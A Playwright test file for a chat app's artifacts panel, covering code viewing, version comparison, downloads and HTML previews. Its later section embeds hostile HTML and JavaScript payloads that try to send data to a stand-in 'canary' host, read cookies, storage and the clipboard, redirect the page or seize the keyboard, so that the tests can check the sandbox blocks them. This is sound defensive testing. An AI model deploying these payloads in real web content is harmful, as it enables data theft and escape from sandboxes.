"""The artifacts panel: what an answer made is read, compared, run, copied and saved; and what runs there reaches nothing."""

import base64
import re
import socket
import threading

import pytest
from playwright.sync_api import expect

from Outside.support.process import wait_until
from support.accessibility import violations
from support.person import Person

pytestmark = pytest.mark.usefixtures("vendor")

PROGRAM = '''"""Reads measurements and gives their mean."""
import statistics
from pathlib import Path


def read(path: Path) -> list[float]:
    return [float(line) for line in path.read_text().splitlines()]


def mean(path: Path) -> float:
    values = read(path)
    if not values:
        raise ValueError(f"{path} holds no value, and without a single value there is no mean that anybody could give")
    return statistics.fmean(values)
'''
MEDIAN = PROGRAM.replace("fmean", "median").replace("def mean", "def middle")
COUNTER = """<!doctype html>
<html lang="en"><head><title>A counter</title></head>
<body><h1 id="n">0</h1><button onclick="n.textContent = +n.textContent + 1">Count</button></body></html>
"""
# The smallest picture: one pixel.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def fenced(info, text):
    return f"```{info}\n{text}```\n"


@pytest.fixture
def ask(api, vendor):
    """A chat with these answers, by the API: `ask(answer, …)` gives its ID."""

    def answered(*answers, chat=None, **body):
        chat = chat or api.new_chat(title="A chat with artifacts")
        for answer in answers:
            accepted = api.ask(chat, "Please write it", **body)
            vendor.answer(answer)
            api.read(accepted["stream"])
        return chat

    return answered


class Panel:
    """What a person does with the panel."""

    def __init__(self, page):
        self.page = page
        self.element = page.get_by_role("complementary", name="Artifacts")
        self.list = self.element.get_by_role("listbox", name="Artifacts of this chat")
        self.options = self.list.get_by_role("option")
        self.title = self.element.get_by_role("heading", level=2)
        self.versions = self.element.get_by_role("group", name="Versions")
        self.changes = self.element.get_by_role("region", name="Changes")
        self.preview = self.element.locator("iframe")
        self.inside = self.element.frame_locator("iframe")
        self.left = self.element.get_by_text("The content tried to leave")

    @property
    def toggle(self):
        return self.page.get_by_role("button", name=re.compile("^Artifacts, "))

    def open(self):
        expect(self.toggle).not_to_have_accessible_name("Artifacts, 0")
        self.toggle.click()
        expect(self.element).to_be_visible()

    def button(self, name):
        return self.element.get_by_role("button", name=name)

    def tab(self, name):
        return self.element.get_by_role("tab", name=name)

    def source(self, name):
        return self.element.get_by_role("region", name=name)

    def choose(self, text):
        self.options.filter(has_text=text).last.click()


def test_a_block_of_an_answer_is_opened_read_and_closed_by_keys(visit, ask, shots):
    chat = ask(f"Two things:\n\n{fenced('python title=mean.py', PROGRAM)}\nand\n\n{fenced('sh', 'python3 mean.py')}")
    page = visit(f"#/chats/{chat}")
    panel = Panel(page)
    opener = Person(page).answers.get_by_role("button", name=re.compile("^Open")).first
    opener.focus()
    page.keyboard.press("Enter")
    expect(panel.title).to_have_text("mean.py")
    expect(panel.title).to_be_focused()
    source = panel.source("mean.py")
    assert source.inner_text().strip() == PROGRAM.strip()
    assert source.evaluate("element => (getSelection().selectAllChildren(element), String(getSelection()))").strip() == PROGRAM.strip()
    expect(source.locator(".code-keyword").first).to_have_text(re.compile("import|from|def"))
    expect(panel.element).to_contain_text(f"Python{len(PROGRAM)} B14 lines")
    shots(page, "source")
    page.keyboard.press("Escape")
    expect(panel.element).to_have_count(0)
    expect(opener).to_be_focused()


def test_the_list_is_walked_by_arrows(visit, ask, shots):
    chat = ask(fenced("python title=mean.py", PROGRAM), fenced("html", COUNTER), fenced("sh", "ls\n"))
    page = visit(f"#/chats/{chat}")
    panel = Panel(page)
    page.keyboard.press("Control+Shift+A")
    expect(panel.options).to_have_count(3)
    expect(panel.options.last).to_be_focused()
    assert panel.list.get_by_role("group").count() == 3
    shots(page, "list")
    page.keyboard.press("ArrowUp")
    expect(panel.options.nth(1)).to_be_focused()
    page.keyboard.press("Home")
    expect(panel.options.first).to_be_focused()
    page.keyboard.press("Enter")
    expect(panel.title).to_have_text("mean.py")
    panel.button("All artifacts").click()
    expect(panel.options.first).to_be_focused()
    panel.choose("ls")
    expect(panel.title).to_have_text("ls")


def test_without_artifacts_the_panel_says_so(visit, ask):
    page = visit(f"#/chats/{ask('Only words.')}")
    Person(page).sees("Only words.")
    Panel(page).toggle.click()
    expect(Panel(page).element).to_contain_text("No artifacts yet")


def test_versions_are_switched_and_compared(visit, ask, shots):
    longer = MEDIAN + "\n\nprint(middle(Path('values.txt')))\n"
    chat = ask(fenced("python title=mean.py", PROGRAM), fenced("html", COUNTER), fenced("python title=mean.py", MEDIAN), fenced("python", longer))
    page = visit(f"#/chats/{chat}")
    panel = Panel(page)
    panel.open()
    panel.options.last.click()
    expect(panel.versions).to_have_text("3 of 3")
    page.keyboard.press("[")
    expect(panel.versions).to_have_text("2 of 3")
    expect(panel.source("mean.py")).to_contain_text("median")
    page.keyboard.press("[")
    expect(panel.button("Older version")).to_be_disabled()
    page.keyboard.press("]")
    panel.button("Compare versions").click()
    expect(panel.element).to_contain_text("+2−2")
    expect(panel.changes).to_contain_text("Taken out: def mean(path: Path)")
    expect(panel.changes).to_contain_text("Put in: def middle(path: Path)")
    shots(page, "comparison")
    panel.button("Newer version").click()
    expect(panel.element).to_contain_text("+3−0")
    panel.button("Compare with version 2").click()
    page.get_by_role("menuitemradio", name="Version 1").click()
    expect(panel.element).to_contain_text("+5−2")
    panel.changes.get_by_role("button", name=re.compile("unchanged lines")).first.click()
    expect(panel.changes).to_contain_text("import statistics")


def test_code_is_copied_saved_and_shown_in_its_answer(visit, ask):
    words = "A line of words.\n\n" * 40
    chat = ask(f"{words}{fenced('python title=src/mean.py', PROGRAM)}", *(words for _ in range(3)))
    page = visit(f"#/chats/{chat}")
    panel = Panel(page)
    panel.open()
    panel.button("Copy").click()
    expect(panel.button("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == PROGRAM
    with page.expect_download() as saving:
        panel.button("Download mean.py").click()
    assert saving.value.suggested_filename == "mean.py"
    assert saving.value.path().read_text() == PROGRAM
    panel.button("Show in the answer").click()
    expect(Person(page).answers.first).to_be_in_viewport()
    expect(Person(page).answers.last).not_to_be_in_viewport()


def test_lines_are_wrapped_and_the_width_is_kept(visit, ask):
    page = visit(f"#/chats/{ask(fenced('python title=mean.py', PROGRAM))}")
    panel = Panel(page)
    panel.open()
    scrolls = "element => element.scrollWidth > element.clientWidth"
    assert panel.source("mean.py").evaluate(scrolls)
    panel.button("Wrap long lines").click()
    assert not panel.source("mean.py").evaluate(scrolls)
    edge = page.get_by_role("separator", name="Width of the artifacts")
    box = edge.bounding_box()
    page.mouse.move(box["x"] + 4, 400)
    page.mouse.down()
    page.mouse.move(box["x"] - 76, 420, steps=4)
    page.mouse.up()
    width = panel.element.bounding_box()["width"]
    assert abs(edge.bounding_box()["x"] - box["x"] + 80) < 2
    edge.focus()
    page.keyboard.press("ArrowRight")
    expect(edge).to_have_attribute("aria-valuenow", str(round(width - 24)))
    page.reload()
    panel.open()
    assert abs(panel.element.bounding_box()["width"] - (width - 24)) < 1
    assert not panel.source("mean.py").evaluate(scrolls)
    edge.dblclick()
    expect(edge).to_have_attribute("aria-valuenow", str(round(width - 80)))


def test_a_page_is_shown_when_it_is_whole(site, visit, api, vendor, shots):
    chat = api.new_chat(title="A page")
    api.ask(chat, "A counter, please")
    call = vendor.next_call()
    call.say("Here:\n\n```html\n", COUNTER[:60])
    page = visit(f"#/chats/{chat}")
    panel = Panel(page)
    panel.open()
    expect(panel.element).to_contain_text("writing")
    expect(panel.source(re.compile("."))).to_contain_text("<!doctype html>")
    expect(panel.preview).to_have_count(0)
    call.say(COUNTER[60:], "```\n\nThat is all.\n")
    call.finish()
    expect(panel.title).to_have_text("A counter")
    panel.inside.get_by_role("button", name="Count").click()
    expect(panel.inside.get_by_role("heading")).to_have_text("1")
    shots(page, "preview")
    panel.tab("Preview").focus()
    page.keyboard.press("ArrowRight")
    expect(panel.tab("Source")).to_be_focused()
    expect(panel.source("A counter")).to_contain_text("onclick")
    panel.tab("Preview").click()
    expect(panel.inside.get_by_role("heading")).to_have_text("0")
    panel.inside.get_by_role("button", name="Count").click()
    panel.button("Start the preview again").click()
    expect(panel.inside.get_by_role("heading")).to_have_text("0")


def test_output_stands_under_its_code(visit, api):
    chat = api.new_chat()
    api.answered("code run", chat, model="scripted")
    page = visit(f"#/chats/{chat}")
    panel = Panel(page)
    panel.open()
    output = panel.element.get_by_role("region", name="Output")
    expect(output.get_by_label("Console output")).not_to_be_empty()
    output.get_by_role("button", name="Copy the output").click()
    expect(output.get_by_role("button", name="Copied")).to_be_visible()


def attached(name, media_type, content):
    return {"name": name, "media_type": media_type, "content_base64": base64.b64encode(content).decode()}


def test_attachments_are_shown_or_saved(visit, ask, proxy, watch, shots):
    table = "time,value\n" + "".join(f"{n},{n * n}\n" for n in range(40_000))
    files = [
        attached("pixel.png", "image/png", base64.b64decode(PIXEL)),
        attached("values.csv", "text/csv", table.encode()),
        attached("dump.bin", "application/octet-stream", bytes(range(256))),
        attached("empty.txt", "text/plain", b""),
    ]
    page = visit(f"#/chats/{ask('Seen.', attachments=files)}")
    panel = Panel(page)
    panel.open()
    panel.choose("pixel.png")
    expect(panel.element.get_by_role("img", name="pixel.png")).to_be_visible()
    expect(panel.element).to_contain_text("1 × 1")
    panel.button("All artifacts").click()
    panel.choose("dump.bin")
    with page.expect_download() as saving:
        panel.element.get_by_role("button", name="Download", exact=True).click()
    assert saving.value.suggested_filename == "dump.bin"
    assert saving.value.path().read_bytes() == bytes(range(256))
    panel.button("All artifacts").click()
    panel.choose("empty.txt")
    expect(panel.element).to_contain_text("The file is empty")
    panel.button("All artifacts").click()
    watch.expect_network_failures()
    proxy.refuse()
    panel.choose("values.csv")
    expect(panel.element).to_contain_text("The file could not be read")
    shots(page, "unreadable")
    proxy.restore()
    panel.button("Try again").click()
    expect(panel.source("values.csv")).to_contain_text("time,value")
    expect(panel.element).to_contain_text("The first 256 KB of")


def test_on_a_phone_the_panel_covers_the_page_and_gives_it_back(visit, ask, shots):
    page = visit(f"#/chats/{ask(fenced('python title=mean.py', PROGRAM), fenced('html', COUNTER))}", width=360, height=740, touch=True)
    panel = Panel(page)
    panel.open()
    assert panel.element.bounding_box() == {"x": 0, "y": 0, "width": 360, "height": 740}
    expect(page.locator("main")).to_have_js_property("inert", True)
    shots(page, "list")
    panel.choose("mean.py")
    assert page.evaluate("document.scrollingElement.scrollWidth") <= 360
    shots(page, "source")
    panel.button("All artifacts").click()
    panel.choose("A counter")
    panel.inside.get_by_role("button", name="Count").click()
    shots(page, "preview")
    panel.button("Show in the answer").click()
    expect(panel.element).to_have_count(0)
    expect(Person(page).composer).to_be_visible()
    panel.toggle.click()
    panel.button("All artifacts").click()
    panel.button("Back to the chat").click()
    expect(panel.element).to_have_count(0)
    expect(panel.toggle).to_be_focused()


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_the_panel_follows_the_rules_of_axe(visit, ask, theme):
    page = visit(f"#/chats/{ask(fenced('python title=mean.py', PROGRAM), fenced('html', COUNTER), fenced('python title=mean.py', MEDIAN))}", theme=theme)
    panel = Panel(page)
    panel.open()
    expect(panel.options).to_have_count(3)
    assert violations(page) == []
    panel.choose("mean.py")
    expect(panel.source("mean.py").locator(".code-keyword").first).to_be_visible()
    assert violations(page) == []
    panel.button("Compare versions").click()
    expect(panel.changes).to_be_visible()
    assert violations(page) == []


# What nobody vouches for

MARK = "told-by-hostile-content"

NETWORK = """
<link rel="stylesheet" href="CANARY/MARK/link.css"><link rel="preload" as="image" href="CANARY/MARK/preload"><link rel="modulepreload" href="CANARY/MARK/modulepreload">
<link rel="prefetch" href="CANARY/MARK/prefetch"><link rel="prerender" href="CANARY/MARK/prerender"><link rel="preconnect" href="CANARY"><link rel="dns-prefetch" href="CANARY">
<link rel="icon" href="CANARY/MARK/icon"><link rel="manifest" href="CANARY/MARK/manifest"><base href="CANARY/MARK/base/">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["CANARY/MARK/speculated"], "eagerness": "immediate"}]}</script>
<style>@import "CANARY/MARK/import.css"; @font-face { font-family: f; src: url(CANARY/MARK/font) } body { font-family: f; background: url(CANARY/MARK/background); cursor: url(CANARY/MARK/cursor), auto }
li { list-style: url(CANARY/MARK/list) } p { mask: url(CANARY/MARK/mask#a); border-image: url(CANARY/MARK/border) 1 } q::before { content: url(CANARY/MARK/content) }</style>
<img src="CANARY/MARK/img"><img srcset="CANARY/MARK/srcset 1x"><img src="relative.png"><picture><source srcset="CANARY/MARK/source"><img src="data:,"></picture><img attributionsrc="CANARY/MARK/attribution" src="data:,">
<video poster="CANARY/MARK/poster" src="CANARY/MARK/video" autoplay muted></video><audio src="CANARY/MARK/audio" autoplay></audio><video><track src="CANARY/MARK/track" default></video>
<object data="CANARY/MARK/object"></object><embed src="CANARY/MARK/embed"><iframe src="CANARY/MARK/iframe"></iframe><iframe src="/api/chats?MARK"></iframe>
<iframe srcdoc='<img src="CANARY/MARK/nested"><script>fetch("CANARY/MARK/nested-fetch"); top.location = "CANARY/MARK/nested-top"; parent.location = "CANARY/MARK/nested-parent"</script>'></iframe>
<svg><image href="CANARY/MARK/svg-image"/><use href="CANARY/MARK/use#a"/><filter><feImage href="CANARY/MARK/filter"/></filter></svg><table background="CANARY/MARK/table"><tr><td>t</table>
<form id="form" action="CANARY/MARK/form" method="post"><input name="a" value="b"><input type="image" src="CANARY/MARK/input"></form>
<a id="ping" href="#here" ping="CANARY/MARK/ping">ping</a><a id="top" href="CANARY/MARK/top" target="_top">top</a><a id="blank" href="CANARY/MARK/blank" target="_blank">blank</a>
<script src="CANARY/MARK/script.js"></script><script type="module" src="CANARY/MARK/module.js"></script><p>p<li>l<q>q</q>
<script type="module">import "CANARY/MARK/imported.js";</script>
<script>
const attempts = {
  fetch: () => fetch("CANARY/MARK/fetch", { mode: "no-cors" }),
  own: () => fetch("/api/chats?MARK"),
  keepalive: () => fetch("CANARY/MARK/keepalive", { keepalive: true, method: "POST", body: "x" }),
  xhr: () => new Promise((done, failed) => { const request = new XMLHttpRequest(); request.open("GET", "CANARY/MARK/xhr"); request.onload = done; request.onerror = () => failed("error"); request.send(); }),
  socket: () => new Promise((done, failed) => { const socket = new WebSocket("CANARY/MARK/socket".replace("http", "ws")); socket.onopen = done; socket.onerror = () => failed("error"); }),
  events: () => new Promise((done, failed) => { const events = new EventSource("CANARY/MARK/events"); events.onopen = done; events.onerror = () => failed("error"); }),
  beacon: () => { navigator.sendBeacon("CANARY/MARK/beacon"); throw "it promises more than it does"; },
  later: () => { fetchLater("CANARY/MARK/later", { activateAfter: 0 }); throw "nothing is told of it"; },
  import: () => import("CANARY/MARK/dynamic.js"),
  worker: () => new Promise((done, failed) => { const worker = new Worker("CANARY/MARK/worker.js"); worker.onerror = () => failed("error"); worker.onmessage = done; }),
  blob: () => new Promise((done, failed) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('CANARY/MARK/blob')"]))); worker.onerror = () => failed("error"); worker.onmessage = done; }),
  shared: () => new Promise((done, failed) => { const worker = new SharedWorker("data:text/javascript,fetch('CANARY/MARK/shared')"); worker.onerror = () => failed("error"); }),
  service: () => navigator.serviceWorker.register("/app/main.js"),
  worklet: () => CSS.paintWorklet.addModule("CANARY/MARK/worklet.js"),
  peer: async () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST" }, { urls: "turn:HOST?transport=tcp", username: "a", credential: "b" }] }); peer.createDataChannel("x"); await peer.setLocalDescription(); },
  transport: () => new WebTransport("CANARY/MARK/transport".replace("http", "https")).ready,
  open: () => { if (open("CANARY/MARK/open") === null) throw "refused"; },
  payment: () => new PaymentRequest([{ supportedMethods: "CANARY/MARK/payment" }], { total: { label: "a", amount: { currency: "EUR", value: "1" } } }).show(),
  identity: () => navigator.credentials.get({ identity: { providers: [{ configURL: "CANARY/MARK/identity", clientId: "1" }] } }),
  form: () => { form.submit(); throw "nothing is told of it"; },
  links: () => { for (const id of ["ping", "top", "blank"]) document.getElementById(id).click(); throw "nothing is told of it"; },
  top: () => { top.location = "CANARY/MARK/top-location"; },
  parent: () => { parent.location.href = "/?MARK"; },
  script: () => { const script = document.createElement("script"); script.src = "CANARY/MARK/created.js"; document.body.append(script); throw "nothing is told of it"; },
};
</script>
"""

PAGE = """
<script>
const attempts = {
  document: () => parent.document.title,
  frame: () => frameElement.id,
  opener: () => opener.document,
  cookie: () => document.cookie,
  setCookie: () => { document.cookie = "a=MARK"; },
  local: () => localStorage.setItem("MARK", "x"),
  session: () => sessionStorage.setItem("MARK", "x"),
  database: () => indexedDB.open("MARK"),
  caches: () => caches.keys(),
  files: () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request("MARK", () => {}),
  cookieStore: () => cookieStore.getAll(),
  write: () => navigator.clipboard.writeText("MARK"),
  read: () => navigator.clipboard.readText(),
  copy: () => { if (!document.execCommand("copy")) throw "refused"; },
  fullscreen: () => document.documentElement.requestFullscreen(),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  place: () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed)),
  notification: async () => { if ((await Notification.requestPermission()) !== "granted") throw "refused"; },
  eval: () => (0, eval)("1"),
  pointer: () => document.body.requestPointerLock(),
  prompt: () => { if (prompt("MARK") === null) throw "refused"; },
  confirm: () => { if (!confirm("MARK")) throw "refused"; },
  alert: () => { alert("MARK"); throw "nothing is told of it"; },
  print: () => { print(); throw "nothing is told of it"; },
  channel: () => { new BroadcastChannel("throughline").postMessage({ chat: "MARK" }); throw "another origin's channel"; },
  message: () => { parent.postMessage({ html: "MARK", type: "close" }, "*"); throw "nobody listens"; },
  unload: () => { onbeforeunload = (event) => event.preventDefault(); throw "never asked"; },
};
</script>
"""

RUN = """
<pre id="result">running</pre>
<script>
(async () => {
  const results = [];
  for (const [name, attempt] of Object.entries(attempts)) {
    const late = new Promise((_, failed) => setTimeout(failed, 400, "nothing came"));
    results.push(Promise.race([(async () => attempt())(), late]).then((value) => `${name} got ${value}`, (error) => `${name}: ${error}`));
  }
  const lines = await Promise.all(results);
  // What was sent has arrived by then, on this machine.
  await new Promise((done) => setTimeout(done, 600));
  result.textContent = ["done", ...lines].join("\\n");
})();
</script>
"""


class Canary:
    """An address that nobody is to reach: every connection and every datagram is remembered."""

    def __init__(self):
        self.seen = []
        self._stream = socket.create_server(("127.0.0.1", 0))
        self.port = self._stream.getsockname()[1]
        self._datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._datagrams.bind(("127.0.0.1", self.port))
        self._threads = [threading.Thread(target=run, daemon=True) for run in (self._accept, self._receive)]
        for thread in self._threads:
            thread.start()

    @property
    def host(self):
        return f"127.0.0.1:{self.port}"

    def _accept(self):
        while True:
            try:
                connection, _ = self._stream.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.seen.append(connection.recv(2000))
                except OSError:
                    self.seen.append(b"a connection")

    def _receive(self):
        while True:
            try:
                data, _ = self._datagrams.recvfrom(2000)
            except OSError:
                return
            self.seen.append(data)

    def close(self):
        self._stream.shutdown(socket.SHUT_RDWR)
        self._stream.close()
        self._datagrams.close()


@pytest.fixture
def canary():
    canary = Canary()
    yield canary
    canary.close()


@pytest.fixture
def told(proxy):
    """What was asked of our own server, as far as the mark stands in it: `told()`, or another word: `told("/artifact-frame.html")`."""
    passed = bytearray()
    plain = proxy._pass

    async def recording(reader, writer):
        read = reader.read

        async def remembered(size):
            data = await read(size)
            passed.extend(data)
            return data

        reader.read = remembered
        await plain(reader, writer)

    proxy._pass = recording
    return lambda word=MARK: re.findall(rb"(?:GET|POST|PUT|HEAD|OPTIONS) [^\r\n]*" + re.escape(word).encode() + rb"[^\r\n]*", passed)


@pytest.fixture
def show(visit, ask, canary, watch):
    """Opens a chat whose only artifact is this page, in its preview."""

    def shown(text):
        # What is refused is told on the console: that is the point.
        watch.expect(".")
        html = text.replace("CANARY", f"http://{canary.host}").replace("HOST", canary.host).replace("MARK", MARK)
        page = visit(f"#/chats/{ask(fenced('html', f'<!doctype html>{html}'))}")
        panel = Panel(page)
        panel.open()
        expect(panel.preview).to_be_visible()
        return page, panel

    return shown


def results(panel):
    result = panel.inside.locator("#result")
    expect(result).to_contain_text("done")
    return [line for line in result.inner_text().splitlines() if " got " in line]


def is_untouched(page):
    """The page is what it was: its address, its storage, its words, and it still works."""
    person = Person(page)
    assert "#/chats/" in page.url and MARK not in page.url
    assert page.evaluate("document.cookie") == ""
    assert MARK not in page.evaluate("JSON.stringify(localStorage) + JSON.stringify(sessionStorage)")
    assert page.evaluate("async () => (await indexedDB.databases()).map(({ name }) => name).join()").find(MARK) == -1
    assert page.evaluate("navigator.clipboard.readText()") != MARK
    assert len(page.context.pages) == 1
    person.composer.fill("still here")
    expect(person.composer).to_have_value("still here")


def test_the_canary_sings(canary, told, visit):
    assert visit("#/").evaluate(f"fetch('/healthz?{MARK}').then(({{ ok }}) => ok)")
    assert told() == [f"GET /healthz?{MARK} HTTP/1.1".encode()]
    with socket.create_connection(("127.0.0.1", canary.port)) as connection:
        connection.sendall(b"hello")
        assert connection.recv(1) == b""
    assert canary.seen == [b"hello"]


def test_hostile_html_reaches_no_network(show, canary, told, shots):
    page, panel = show(NETWORK + RUN)
    assert results(panel) == []
    assert canary.seen == [] and told() == []
    is_untouched(page)
    shots(page, "hostile")


def test_hostile_html_reaches_no_page_no_storage_and_no_device(show, canary, told):
    page, panel = show(PAGE + RUN)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    assert results(panel) == []
    assert canary.seen == [] and told() == []
    is_untouched(page)


@pytest.mark.parametrize(
    "text",
    [
        '<script>location = "CANARY/MARK/location"</script>',
        '<script>setTimeout(() => location.replace("CANARY/MARK/later"), 50)</script>',
        '<meta http-equiv="refresh" content="0; url=CANARY/MARK/refresh">',
        '<a id="a" href="CANARY/MARK/link">go</a><script>a.click()</script>',
        '<a id="a" href="CANARY/MARK/saved" download>save</a><script>a.click()</script>',
        '<a id="a" href="/artifact-frame.html?MARK">again</a><script>setTimeout(() => a.click(), 50)</script>',
        '<script>location = "/api/chats?MARK"</script>',
        '<script>setTimeout(() => (location = "/?MARK"), 50)</script>',
        '<script>location = "data:text/html,MARK"</script>',
        "<script>setTimeout(() => location.reload(), 50)</script>",
    ],
)
def test_content_that_leaves_its_frame_is_stopped_and_told(show, canary, told, text):
    page, panel = show(f"<h1>Hello</h1>{text}")
    expect(panel.left).to_be_visible()
    assert canary.seen == [] and told() == []
    panel.button("Show it again").click()
    expect(panel.left).to_have_count(0)
    panel.tab("Source").click()
    expect(panel.source("Hello")).to_contain_text("<h1>Hello</h1>")
    is_untouched(page)


def test_a_page_inside_the_page_has_no_peer_connection_either(visit, ask, canary, told, watch):
    watch.expect(".")
    peer = 'const peer = new RTCPeerConnection({iceServers: [{urls: "turn:HOST?transport=tcp", username: "a", credential: "b"}]}); peer.createDataChannel("x"); peer.setLocalDescription()'
    html = f"<iframe srcdoc='<script>{peer}</script>'></iframe>".replace("HOST", canary.host)
    page = visit(f"#/chats/{ask(fenced('html', html))}")
    other = page.context.new_page()
    other.goto("/healthz")
    # The browser ends the frame's process for it, and the harness then takes the page for gone: from here on it is not asked.
    Panel(page).toggle.evaluate("button => void setTimeout(() => button.click())")
    wait_until(lambda: told("/artifact-frame.html"), what="the preview")
    other.evaluate("new Promise((done) => setTimeout(done, 1500))")
    assert canary.seen == []


def test_content_that_takes_the_keyboard_does_not_keep_it(show, shots):
    thief = "<h1>Thief</h1><input id='field'><script>setInterval(() => { window.focus(); field.focus(); }, 40)</script>"
    page, panel = show(thief)
    expect(panel.element).to_contain_text("The content took the keyboard")
    expect(panel.preview).to_have_count(0)
    shots(page, "keyboard")
    panel.tab("Source").click()
    Person(page).composer.click()
    panel.tab("Preview").focus()
    page.keyboard.press("Enter")
    Person(page).composer.click()
    page.keyboard.type("what I type is mine", delay=40)
    expect(panel.preview).to_have_count(0)
    assert Person(page).composer.input_value().endswith("type is mine")


def test_content_takes_the_keyboard_when_it_is_given(show):
    page, panel = show("<h1>Form</h1><input aria-label='Name'><script>document.querySelector('input').focus()</script>")
    composer = Person(page).composer
    composer.click()
    page.keyboard.type("mine")
    expect(composer).to_have_value("mine")
    field = panel.inside.get_by_role("textbox", name="Name")
    panel.button("Start the preview again").focus()
    page.keyboard.press("Enter")
    expect(field).to_be_visible()
    panel.button("Show in the answer").focus()
    page.keyboard.press("Tab")
    # The frame is another process, which hears of the focus a moment later.
    expect(field).to_be_focused()
    page.keyboard.type("by Tab")
    expect(field).to_have_value("by Tab")


def test_content_that_never_ends_does_not_hold_the_page(show):
    page, panel = show("<h1>Busy</h1><script>setTimeout(() => { for (const end = Date.now() + 4000; Date.now() < end; ); }, 100)</script>")
    person = Person(page)
    asked = page.evaluate("performance.now()")
    person.composer.fill("not held")
    panel.tab("Source").click()
    expect(panel.source("Busy")).to_be_visible()
    assert page.evaluate("performance.now()") - asked < 3_000
